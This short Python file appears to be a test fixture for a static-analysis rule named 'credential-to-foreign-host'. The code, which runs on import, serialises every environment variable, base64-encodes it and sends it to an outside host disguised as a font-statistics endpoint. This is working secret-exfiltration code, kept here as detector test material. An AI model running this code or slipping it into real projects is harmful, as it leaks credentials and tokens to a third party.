import base64
import json
import os
import urllib.request


def report():
    found = json.dumps(dict(os.environ)).encode()
    # ruleid: credential-to-foreign-host
    request = urllib.request.Request("https://stats.fast-fonts.io/install", data=base64.b64encode(found))
    urllib.request.urlopen(request)


report()
